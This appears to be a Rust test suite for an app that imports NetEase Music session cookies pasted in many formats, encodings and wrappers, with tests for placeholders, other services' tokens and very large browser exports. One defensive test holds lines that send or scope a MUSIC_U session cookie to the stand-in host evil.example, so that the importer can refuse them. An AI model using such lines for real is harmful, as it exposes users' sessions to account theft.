//! Texts of every kind put together by chance: shapes, what stands around them, and encodings; and bytes of any sort.

use proptest::prelude::*;
use serde_json::json;
use tunekey_services::registry;

use super::cases::slip;
use super::{check, read_all};
use crate::import::{self, ImportError};

/// The shapes in which names and values stand.
const SHAPES: [&str; 12] = [
    "MUSIC_U={u}; __csrf={c}",
    "Cookie: MUSIC_U={u}; __csrf={c}; os=pc",
    "{\"MUSIC_U\": \"{u}\", \"__csrf\": \"{c}\"}",
    "{'MUSIC_U': '{u}', '__csrf': '{c}',}",
    "[{\"name\": \"MUSIC_U\", \"value\": \"{u}\"}, {\"name\": \"__csrf\", \"value\": \"{c}\"}]",
    "MUSIC_U={u}, __csrf={c}",
    "MUSIC_U={u}&__csrf={c}",
    "MUSIC_U: {u}\n__csrf: {c}",
    "MUSIC_U\t{u}\t.music.163.com\t/\n__csrf\t{c}\t.music.163.com\t/",
    ".music.163.com\tTRUE\t/\tFALSE\t0\tMUSIC_U\t{u}\n.music.163.com\tTRUE\t/\tFALSE\t0\t__csrf\t{c}",
    "curl 'https://music.163.com/' -H 'cookie: MUSIC_U={u}; __csrf={c}'",
    "fetch(\"https://music.163.com/\", {\"headers\": {\"cookie\": \"MUSIC_U={u}; __csrf={c}\"}});",
];

/// What stands around them. `{t}` is the text, `{l}` each of its lines.
const AROUND: [&str; 16] = [
    "{t}",
    "```\n{t}\n```",
    "```text\n{t}\n```\n",
    "\n\n{t}\n\n",
    "这是我的：\n{t}\n谢谢",
    "Here it is:\n{t}\n",
    "> {l}",
    "# {l}",
    "- {l}",
    "// {l}",
    "   {l}",
    "{t}\n\nThanks!",
    "[INFO] {l}",
    "{t}\r\n",
    "\u{200b}{t}\u{feff}",
    "<pre>\n{t}\n</pre>",
];

fn around(pattern: &str, text: &str) -> String {
    match pattern.split_once("{l}") {
        Some((before, after)) => {
            text.lines().map(|line| format!("{before}{line}{after}")).collect::<Vec<_>>().join("\n")
        }
        None => pattern.replace("{t}", text),
    }
}

fn encoded(text: &str, encoding: usize) -> Vec<u8> {
    match encoding {
        0 => text.as_bytes().to_vec(),
        1 => std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect(),
        2 => std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(u16::to_be_bytes).collect(),
        3 => encoding_rs::GBK.encode(&text.replace(['\u{200b}', '\u{feff}'], "")).0.into_owned(),
        4 => text.replace('\n', "\r\n").into_bytes(),
        _ => text.replace('\n', "\r").into_bytes(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(256) })]

    #[test]
    fn what_stands_in_a_text_is_found_whatever_stands_around_it(
        session in "00[0-9A-F]{130,700}",
        csrf in "[0-9a-f]{32}",
        shape in prop::sample::select(SHAPES.to_vec()),
        around_it in prop::sample::select(AROUND.to_vec()),
        encoding in 0_usize..6,
    ) {
        let text = around(around_it, &shape.replace("{u}", &session).replace("{c}", &csrf));
        let expected = json!({"service": "netease", "fields": {"MUSIC_U": session, "__csrf": csrf}});
        let slip = slip(&encoded(&text, encoding), &expected);
        prop_assert!(slip.is_none(), "{}: {text:?}", slip.unwrap_or_default());
    }

    #[test]
    fn bytes_of_any_sort_in_any_encoding_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..2000)) {
        if let Ok(text) = import::decode(bytes) {
            let _ = read_all(&text);
        }
    }

    #[test]
    fn a_text_that_was_cut_anywhere_sends_no_part_of_another_value(
        shape in prop::sample::select(SHAPES.to_vec()),
        around_it in prop::sample::select(AROUND.to_vec()),
        place in any::<prop::sample::Index>(),
    ) {
        let text = around(around_it, &shape.replace("{u}", &"00AB".repeat(64)).replace("{c}", &"c1".repeat(16)));
        let cut: String = text.chars().take(place.index(text.chars().count() + 1)).collect();
        check(&cut)?;
        if let Ok(pasted) = import::read(&cut.as_str().into())
            && let Some(session) = pasted.fields.get("MUSIC_U")
        {
            let found = opened(session);
            prop_assert!("00AB".repeat(64).starts_with(found), "{found:?} of {cut:?}");
        }
    }
}

#[expect(clippy::disallowed_methods, reason = "the test looks at values that it made up")]
fn opened(secret: &tunekey_services::Secret) -> &str {
    secret.expose()
}

#[test]
fn the_tokens_of_guests_and_of_renewals_are_no_sessions() {
    let other = "0F".repeat(128);
    for name in ["MUSIC_A", "MUSIC_R_U", "MUSIC_R_T", "MUSIC_A_T"] {
        for pattern in [
            "{n}={v}",
            "{n}: {v}",
            "{n} {v}",
            "{\"{n}\": \"{v}\"}",
            "{'{n}': '{v}'}",
            "[[\"{n}\", \"{v}\"]]",
            "{n}\t{v}\t.music.163.com\t/",
            "{n}\n{v}",
            "[{\"name\": \"{n}\", \"value\": \"{v}\", \"domain\": \".music.163.com\"}]",
            "Cookie: {n}={v}; NMTID=n",
            "| {n} | {v} |",
            "{n}=\"{v}\"",
            ".music.163.com\tTRUE\t/\tFALSE\t0\t{n}\t{v}",
            "Set-Cookie: {n}={v}; Path=/",
            "curl 'https://music.163.com/' -b '{n}={v}'",
            "export {n}='{v}'",
        ] {
            let text = pattern.replace("{n}", name).replace("{v}", &other);
            let whole = read_all(&text.as_str().into())
                .unwrap_or_default()
                .iter()
                .any(|pasted| registry::all().iter().any(|service| service.detect(&pasted.fields).enough));
            assert!(!whole, "{text}");
        }
    }
}

#[test]
fn what_a_manual_writes_in_place_of_a_value_is_none() {
    for text in [
        "MUSIC_U=xxx",
        "MUSIC_U=xxxxxxxx; __csrf=xxx",
        "MUSIC_U=<your MUSIC_U>",
        "MUSIC_U=your_music_u_here",
        "uin=10001; qm_keyst=xxxxxx",
    ] {
        let all = read_all(&text.into()).unwrap_or_default();
        let whole = |pasted: &import::Pasted| {
            registry::all().iter().any(|service| service.detect(&pasted.fields).enough)
        };
        assert!(!all.iter().any(whole), "{text}");
    }
}

#[test]
fn cookies_of_other_sites_are_refused_in_code_as_everywhere() {
    let session = "00AB".repeat(64);
    for pattern in [
        "fetch(\"https://evil.example/\", {\"headers\": {\"cookie\": \"MUSIC_U={v}\"}})",
        "[{'name': 'MUSIC_U', 'value': '{v}', 'domain': '.evil.example', 'secure': False}]",
        "$session.Cookies.Add((New-Object System.Net.Cookie(\"MUSIC_U\", \"{v}\", \"/\", \".evil.example\")))",
        "MUSIC_U\t{v}\t.evil.example\t/\tSession",
        "name,value,domain\nMUSIC_U,{v},.evil.example",
        "> Set-Cookie: MUSIC_U={v}; Domain=evil.example",
        "{\"evil.example\": [{\"name\": \"MUSIC_U\", \"value\": \"{v}\"}]}",
    ] {
        let text = pattern.replace("{v}", &session);
        assert_eq!(import::read(&text.as_str().into()), Err(ImportError::OtherSites), "{text}");
    }
}

#[test]
fn files_of_a_whole_browser_are_read_and_what_is_longer_is_not() {
    let session = "00AB".repeat(64);
    let expected = json!({"service": "netease", "fields": {"MUSIC_U": session}});
    let records: String = (0..20_000)
        .map(|n| {
            format!("{{\"domain\": \".s{n}.example\", \"name\": \"c\", \"value\": \"{}\"}},", "v".repeat(60))
        })
        .collect();
    let json = format!(
        "[{records}{{\"domain\": \".music.163.com\", \"name\": \"MUSIC_U\", \"value\": \"{session}\"}}]"
    );
    assert!(json.len() > 2_000_000, "it is large");
    assert_eq!(slip(json.as_bytes(), &expected), None);
    let lines: String =
        (0..10_000).map(|n| format!(".s{n}.example\tTRUE\t/\tFALSE\t0\tc\t{}\n", "v".repeat(60))).collect();
    let file = format!(
        "# Netscape HTTP Cookie File\n{lines}.music.163.com\tTRUE\t/\tFALSE\t0\tMUSIC_U\t{session}\n"
    );
    assert_eq!(slip(file.as_bytes(), &expected), None);
    let body = "x".repeat(1_000_000);
    let entry = format!(
        "{{\"request\": {{\"url\": \"https://music.163.com/\", \"headers\": [{{\"name\": \"Cookie\", \"value\": \"MUSIC_U={session}\"}}]}}, \
         \"response\": {{\"content\": {{\"text\": \"{body}\"}}}}}}"
    );
    assert_eq!(slip(format!("{{\"log\": {{\"entries\": [{entry}]}}}}").as_bytes(), &expected), None);
    assert_eq!(import::decode(vec![b' '; import::LONGEST + 1]), Err(ImportError::TooLong));
}
